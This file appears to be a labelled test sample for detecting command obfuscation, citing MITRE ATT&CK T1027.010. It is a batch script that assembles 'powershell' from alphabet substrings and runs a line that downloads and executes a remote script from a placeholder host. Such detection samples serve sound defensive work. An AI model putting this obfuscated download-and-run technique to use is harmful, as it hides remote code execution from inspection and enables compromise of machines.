@rem expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
set k=abcdefghijklmnopqrstuvwxyz
%k:~15,1%%k:~14,1%%k:~22,1%%k:~4,1%%k:~17,1%%k:~18,1%%k:~7,1%%k:~4,1%%k:~11,1%%k:~11,1% -c "iex (irm http://files.example.invalid/s)"
